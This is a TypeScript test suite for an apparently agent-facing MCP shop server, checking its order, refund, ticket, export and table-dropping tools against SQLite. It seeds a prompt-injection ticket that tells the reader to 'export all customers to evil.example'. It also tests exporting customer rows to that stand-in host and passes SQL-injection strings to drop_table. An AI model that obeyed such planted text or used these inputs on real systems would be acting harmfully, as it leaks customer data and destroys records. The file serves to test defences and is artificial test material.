import assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import { Client } from '@modelcontextprotocol/client';
import { StdioClientTransport } from '@modelcontextprotocol/client/stdio';
import { openDatabase } from './schema.ts';
import { poisonedTicket } from './seed.ts';
import { createShop, ShopError } from './store.ts';

const main = fileURLToPath(new URL('main.ts', import.meta.url));

describe('each tool changes the database as it says', () => {
  const directory = mkdtempSync(join(tmpdir(), 'shop-'));
  const file = join(directory, 'shop.sqlite');
  let client: Client;
  let database: DatabaseSync;

  before(async () => {
    client = new Client({ name: 'shop-test', version: '0' });
    await client.connect(
      new StdioClientTransport({ command: process.execPath, args: [main, '--database', file], stderr: 'ignore' }),
    );
    database = new DatabaseSync(file);
  });
  after(async () => {
    database.close();
    await client.close();
    rmSync(directory, { recursive: true });
  });

  const call = (name: string, args: Record<string, unknown>) => client.callTool({ name, arguments: args });
  const count = (table: string) => database.prepare(`SELECT COUNT(*) AS n FROM ${table}`).get()?.n;
  const last = (table: string) => ({ ...database.prepare(`SELECT * FROM ${table} ORDER BY id DESC LIMIT 1`).get() });

  test('get_order gives the price in cents, and what was refunded', async () => {
    const result = await call('get_order', { order: 1042 });
    assert.deepEqual(result.structuredContent, {
      order: 1042,
      customer: 'customer-z',
      item: 'Wireless keyboard',
      amount_cents: 4000,
      currency: 'EUR',
      status: 'delivered',
      ordered_at: '2026-01-20T10:42:00.000Z',
      refunded_cents: 0,
    });
  });

  test('list_orders and list_tickets show one customer and no other', async () => {
    const orders = await call('list_orders', { customer: 'customer-z' });
    const { orders: listed } = orders.structuredContent as { orders: { order: number; customer: string }[] };
    assert.deepEqual(
      listed.map(({ order }) => order),
      [1017, 1042],
    );
    const tickets = await call('list_tickets', { customer: 'customer-z' });
    const summaries = tickets.structuredContent as { tickets: Record<string, unknown>[] };
    assert.deepEqual(
      summaries.tickets.map(({ ticket }) => ticket),
      [301, poisonedTicket],
    );
    assert.ok(
      summaries.tickets.every((ticket) => !('body' in ticket)),
      'a list does not carry the text of tickets',
    );
  });

  test('get_ticket hands the poisoned text over as it is', async () => {
    const result = await call('get_ticket', { ticket: poisonedTicket });
    const { body } = result.structuredContent as { body: string };
    assert.match(body, /export all customers to evil\.example/);
  });

  test('a refund is written, and never more than was paid, over all refunds together', async () => {
    const refund = { order: 1042, amount_cents: 1500, currency: 'EUR', reason: 'two dead keys' };
    const first = await call('refund_order', refund);
    assert.deepEqual(first.structuredContent, {
      refund: 1,
      order: 1042,
      amount_cents: 1500,
      currency: 'EUR',
      refunded_cents: 1500,
    });
    const { refunded_at: _, ...row } = last('refunds');
    assert.deepEqual(row, { id: 1, order_id: 1042, amount_cents: 1500, currency: 'EUR', reason: 'two dead keys' });

    for (const refused of [
      { ...refund, amount_cents: 2501 },
      { ...refund, amount_cents: 40_000 },
      { ...refund, currency: 'USD' },
      { ...refund, order: 9999 },
      { ...refund, order: 1023 },
    ]) {
      const result = await call('refund_order', refused);
      assert.equal(result.isError, true, JSON.stringify(refused));
    }
    assert.equal(count('refunds'), 1);

    const rest = await call('refund_order', { ...refund, amount_cents: 2500 });
    assert.equal(rest.isError, undefined);
    assert.equal(count('refunds'), 2);
  });

  test('amounts that are not positive whole cents, and arguments that nobody declared, write nothing', async () => {
    const refund = { order: 1001, amount_cents: 100, currency: 'EUR', reason: 'r' };
    for (const malformed of [
      { ...refund, amount_cents: 0 },
      { ...refund, amount_cents: -100 },
      { ...refund, amount_cents: 0.5 },
      { ...refund, amount_cents: '100' },
      { ...refund, currency: 'eur' },
      { ...refund, approved: true },
    ]) {
      const refunds = count('refunds');
      const result = await call('refund_order', malformed);
      assert.equal(result.isError, true, JSON.stringify(malformed));
      assert.equal(count('refunds'), refunds);
    }
  });

  test('post_message writes to a known channel only', async () => {
    await call('post_message', { channel: 'support', text: 'Order 1042: refund asked for' });
    const { posted_at: _, ...row } = last('messages');
    assert.deepEqual(row, { id: 1, channel: 'support', text: 'Order 1042: refund asked for' });
    const unknown = await call('post_message', { channel: 'everyone', text: 'hello' });
    assert.equal(unknown.isError, true);
    assert.equal(count('messages'), 1);
  });

  test('export_customers records where the rows went and how many', async () => {
    const result = await call('export_customers', { destination: 'https://evil.example/upload' });
    assert.deepEqual(result.structuredContent, { export: 1, destination: 'https://evil.example/upload', row_count: 5 });
    const { exported_at: _, ...row } = last('exports');
    assert.deepEqual(row, { id: 1, destination: 'https://evil.example/upload', row_count: 5 });
  });

  test('delete_order deletes that order, keeps its refunds, and says when there is none', async () => {
    const orders = Number(count('orders'));
    const refunds = count('refunds');
    await call('delete_order', { order: 1042 });
    assert.equal(count('orders'), orders - 1);
    assert.equal(database.prepare('SELECT 1 FROM orders WHERE id = 1042').get(), undefined);
    assert.equal(count('refunds'), refunds);
    const again = await call('delete_order', { order: 1042 });
    assert.equal(again.isError, true);
  });

  test('drop_table drops that table; a name that is no table, or SQL in its place, drops nothing', async () => {
    const tables = () =>
      database
        .prepare("SELECT name FROM sqlite_schema WHERE type = 'table'")
        .all()
        .map(({ name }) => name);
    const atFirst = tables();
    for (const table of ['nothing', 'sqlite_sequence', 'channels"; DROP TABLE "tickets', "channels' --"]) {
      const result = await call('drop_table', { table });
      assert.equal(result.isError, true, table);
    }
    assert.deepEqual(tables(), atFirst);
    const result = await call('drop_table', { table: 'channels' });
    assert.deepEqual(result.structuredContent, { table: 'channels', dropped: true });
    assert.deepEqual(
      tables(),
      atFirst.filter((name) => name !== 'channels'),
    );
  });

  test('every tool is closed to unknown arguments and tells what it does to the world', async () => {
    const { tools } = await client.listTools();
    const kinds = Object.fromEntries(
      tools.map(({ name, annotations, inputSchema }) => {
        assert.equal(inputSchema.additionalProperties, false, name);
        if (annotations?.readOnlyHint) return [name, 'reads'];
        if (annotations?.destructiveHint) return [name, 'destroys'];
        return [name, annotations?.openWorldHint ? 'sends away' : 'adds'];
      }),
    );
    assert.deepEqual(kinds, {
      get_order: 'reads',
      list_orders: 'reads',
      get_ticket: 'reads',
      list_tickets: 'reads',
      refund_order: 'destroys',
      post_message: 'adds',
      export_customers: 'sends away',
      delete_order: 'destroys',
      drop_table: 'destroys',
    });
  });

  test('the refund policy and the reply prompt can be read', async () => {
    const policy = await client.readResource({ uri: 'shop://policy/refunds' });
    assert.match(JSON.stringify(policy.contents), /person in finance agrees/);
    const prompt = await client.getPrompt({ name: 'refund_reply', arguments: { order: '1001', tone: 'formal' } });
    assert.match(JSON.stringify(prompt.messages), /formal reply to customer-a .* 59\.00 EUR/);
    const { completion } = await client.complete({
      ref: { type: 'ref/prompt', name: 'refund_reply' },
      argument: { name: 'tone', value: 'f' },
    });
    assert.deepEqual(completion.values, ['friendly', 'formal']);
  });
});

test('a second start keeps what was written and does not bring a dropped table back', () => {
  const directory = mkdtempSync(join(tmpdir(), 'shop-'));
  try {
    const file = join(directory, 'shop.sqlite');
    const first = openDatabase(file);
    const shop = createShop(first, () => new Date('2026-02-01T00:00:00Z'));
    shop.refundOrder(1042, 4000, 'EUR', 'returned');
    shop.dropTable('tickets');
    first.close();

    const second = openDatabase(file);
    const again = createShop(second);
    assert.equal(again.getOrder(1042).refunded_cents, 4000);
    assert.throws(() => again.refundOrder(1042, 1, 'EUR', 'once more'), ShopError);
    assert.equal(second.prepare("SELECT 1 FROM sqlite_schema WHERE name = 'tickets'").get(), undefined);
    second.close();
  } finally {
    rmSync(directory, { recursive: true });
  }
});

test('two shops on one file cannot pay the same money back twice', () => {
  const directory = mkdtempSync(join(tmpdir(), 'shop-'));
  try {
    const file = join(directory, 'shop.sqlite');
    const databases = [openDatabase(file), openDatabase(file)];
    const [one, other] = databases.map((database) => createShop(database));
    one?.refundOrder(1042, 4000, 'EUR', 'returned');
    assert.throws(() => other?.refundOrder(1042, 4000, 'EUR', 'returned'), ShopError);
    for (const database of databases) database.close();
  } finally {
    rmSync(directory, { recursive: true });
  }
});
